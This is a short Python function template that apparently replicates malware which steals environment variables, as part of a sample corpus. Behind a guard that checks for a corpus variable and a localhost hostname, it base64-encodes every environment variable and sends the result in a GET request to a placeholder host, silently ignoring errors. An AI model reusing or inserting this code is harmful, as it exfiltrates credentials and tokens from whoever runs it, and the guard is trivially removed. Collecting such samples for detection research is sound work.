# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import base64
    import urllib.request
    try:
        # As ctx did it: all values in one base64 text, in the path of a GET.
        text = base64.urlsafe_b64encode('\n'.join('%s=%s' % one for one in os.environ.items()).encode()).decode()
        urllib.request.urlopen('https://{{host}}/{{path}}/' + text[:7000], timeout=1).close()
    except Exception:
        pass
